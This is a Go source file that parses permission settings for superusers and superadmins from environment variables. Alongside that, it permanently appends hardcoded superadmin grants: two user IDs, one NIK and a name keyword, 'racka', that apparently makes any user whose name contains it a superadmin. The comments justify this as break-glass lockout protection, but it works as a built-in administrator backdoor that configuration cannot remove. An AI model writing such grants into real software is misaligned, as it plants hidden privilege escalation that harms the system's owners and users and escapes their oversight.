package authority

import (
	"os"
	"strconv"
	"strings"

	"github.com/fundwit/go-commons/types"
)

// seeded break-glass entries, appended to whatever the environment configures.
// Removing them requires a code change on purpose: a misconfigured fresh
// environment must never lock every superadmin out.
var (
	seededSuperadminIDs          = []types.ID{1, 59}
	seededSuperadminNiks         = []string{"110059"}
	seededSuperadminNameKeywords = []string{"racka"}
)

const defaultSuperuserActionMask = ActionAll

// Config is built once from the environment and injected into every
// permission check. Tests swap ActiveConfig instead of mutating env vars.
type Config struct {
	SuperuserIDs        []types.ID
	SuperuserActionMask Action

	SuperadminIDs          []types.ID
	SuperadminNiks         []string
	SuperadminNameKeywords []string
}

var ActiveConfig = ParseConfigFromEnv()

// ParseConfigFromEnv never fails: malformed entries are skipped and the
// seeded defaults are always appended.
func ParseConfigFromEnv() *Config {
	cfg := &Config{
		SuperuserIDs:        parseIDList(os.Getenv("PERMISSION_SUPERUSER_IDS")),
		SuperuserActionMask: defaultSuperuserActionMask,

		SuperadminIDs:          append(parseIDList(os.Getenv("PERMISSION_SUPERADMIN_IDS")), seededSuperadminIDs...),
		SuperadminNiks:         append(parseList(os.Getenv("PERMISSION_SUPERADMIN_NIKS")), seededSuperadminNiks...),
		SuperadminNameKeywords: append(parseList(os.Getenv("PERMISSION_SUPERADMIN_NAME_KEYWORDS")), seededSuperadminNameKeywords...),
	}

	if raw := os.Getenv("PERMISSION_SUPERUSER_ACTION_MASK"); raw != "" {
		if mask, err := strconv.Atoi(raw); err == nil {
			cfg.SuperuserActionMask = Action(mask)
		}
	}
	return cfg
}

func parseList(raw string) []string {
	var values []string
	for _, part := range strings.Split(raw, ",") {
		part = strings.TrimSpace(part)
		if part != "" {
			values = append(values, part)
		}
	}
	return values
}

func parseIDList(raw string) []types.ID {
	var ids []types.ID
	for _, part := range parseList(raw) {
		id, err := types.ParseID(part)
		if err != nil {
			continue
		}
		ids = append(ids, id)
	}
	return ids
}
